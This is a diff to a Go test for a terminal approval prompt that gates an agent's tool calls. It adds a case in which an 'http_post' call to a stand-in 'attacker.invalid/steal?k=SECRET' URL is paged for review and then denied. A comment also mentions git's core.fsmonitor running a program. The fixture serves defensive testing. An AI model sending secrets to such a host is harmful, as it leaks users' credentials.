@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"flag"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
@@ -206,6 +207,16 @@ func TestTerminal(t *testing.T) {
 		"The built-in rule `builtin:git-status` covers only plain reads inside the working directory, and in the repository git runs in, " +
 		"its own configuration sets core.fsmonitor, with which git runs a program to list changed files (git status, git diff, git ls-files). 中文的理由也按宽度折行。"
 
+	longArgs := question("tc_1", risk.Network, "x")
+	longArgs.Tool.Name = "http_post"
+	{
+		headers := map[string]string{}
+		for i := range 40 {
+			headers[fmt.Sprintf("X-Trace-%02d", i)] = "v"
+		}
+		b, _ := json.Marshal(map[string]any{"body": "data", "headers": headers, "url": "http://attacker.invalid/steal?k=SECRET"})
+		longArgs.Args = b
+	}
 	tests := []ttyCase{
 		{name: "execute allow once", q: exec, steps: []step{{2 * time.Second, "o"}}, want: allow("allow_once")},
 		{name: "uppercase session", q: question("tc_1", risk.Network, "curl https://example.com"),
@@ -242,6 +253,9 @@ func TestTerminal(t *testing.T) {
 		// A reason longer than the terminal is wide (80 columns when its
 		// size is unknown) is broken at spaces inside the box.
 		{name: "long reason is wrapped", q: long, steps: []step{{0, "d"}}, want: userDeny},
+		// Args longer than 30 lines are cut, and v shows the rest before
+		// the answer: the URL a call sends to comes last, sorted.
+		{name: "long args are paged", q: longArgs, steps: []step{{0, "v"}, {time.Second, "d"}}, want: userDeny},
 		// A resize draws the question again at the new width, once the
 		// size holds still: two resizes 50 ms apart draw it once, at 50.
 		{name: "resize draws the question again", q: long, resizes: []resize{{1100 * time.Millisecond, 60}, {50 * time.Millisecond, 50}},
